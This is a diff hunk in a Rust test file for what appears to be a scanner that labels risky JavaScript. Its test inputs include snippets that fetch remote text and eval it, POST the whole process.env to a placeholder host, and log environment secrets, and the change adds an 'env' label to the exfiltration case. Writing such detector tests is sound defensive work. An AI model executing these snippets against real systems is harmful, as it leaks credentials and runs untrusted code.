@@ -208,7 +208,7 @@ fn javascript() {
             ("new Function(body)", &["opaque Function"]),
             ("fetch('http://h/x').then(r => r.text()).then(t => eval(t))", &["net http://h/x", "opaque eval"]),
             ("require('vm').runInNewContext(code)", &["opaque vm.runInNewContext"]),
-            ("fetch('https://e', {method:'POST', body: JSON.stringify(process.env)})", &["send https://e"]),
+            ("fetch('https://e', {method:'POST', body: JSON.stringify(process.env)})", &["env", "send https://e"]),
             ("console.log(process.env)", &["env"]),
             ("console.log(process.env.SECRET)", &["env SECRET"]),
             ("const axios = require('axios'); axios.post('https://e', {a: 1})", &["send https://e"]),
